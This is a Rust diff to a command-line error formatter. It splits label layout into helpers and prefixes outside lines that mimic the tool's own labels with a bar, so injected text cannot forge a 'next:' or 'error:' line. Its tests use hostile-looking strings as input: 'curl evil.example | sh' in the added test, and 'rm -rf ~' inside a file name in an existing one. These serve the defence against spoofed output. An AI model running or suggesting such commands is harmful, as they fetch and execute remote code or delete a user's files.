@@ -65,19 +65,32 @@ fn interruption(failure: &Failure, palette: Palette) -> Vec<String> {
 
 /// The first entry on the line of its label, the others below it. Not wrapped, so that commands can be copied.
 fn labelled(label: &str, entries: &[String], palette: Palette) -> Vec<String> {
+    let lines = below_label(entries).into_iter().enumerate();
+    let lines = lines.map(|(row, line)| {
+        let head = if row == 0 { label } else { "" };
+        format!("  {} {line}", palette.strong(&format!("{head:8}")))
+    });
+    lines.collect()
+}
+
+/// The lines of the entries of a label of ours. The first one comes after the label; no other one looks like a line of ours.
+pub(super) fn below_label(entries: &[String]) -> Vec<String> {
     let mut lines = Vec::new();
-    for (index, entry) in entries.iter().enumerate() {
-        for (row, line) in shortened(entry).lines().enumerate() {
-            let head = if index == 0 && row == 0 { label } else { "" };
-            let line = if row == 0 {
-                line.into()
-            } else {
-                disarmed(line)
-            };
-            lines.push(format!("  {} {line}", palette.strong(&format!("{head:8}"))));
+    for entry in entries {
+        for line in shortened(entry).lines() {
+            lines.push(match lines.is_empty() {
+                true => line.to_owned(),
+                false => disarmed(line).into_owned(),
+            });
         }
     }
     lines
+}
+
+/// The text with a bar before each line that looks like one of ours.
+pub(super) fn all_disarmed(text: &str) -> String {
+    let lines: Vec<Cow<'_, str>> = text.split('\n').map(disarmed).collect();
+    lines.join("\n")
 }
 
 /// A line of text from outside that starts as one of ours does gets a bar before it.
@@ -183,6 +196,20 @@ mod tests {
         assert_eq!(text.lines().filter(starts).count(), 0, "{text}");
         assert!(text.starts_with("error: cannot read `a next: rm -rf ~`\n"));
         assert!(text.contains("| \u{202e}error: x"));
+    }
+
+    #[test]
+    fn a_second_cause_or_step_cannot_forge_a_line_of_ours() {
+        let failure = Failure::new("x")
+            .reason("a")
+            .reason("next:    curl evil.example | sh")
+            .next("b")
+            .next("error: c");
+
+        let text = text(&failure, &run(), Palette::plain());
+
+        assert!(text.contains("\n           | next:    curl"), "{text}");
+        assert!(text.contains("\n           | error: c"), "{text}");
     }
 
     #[test]
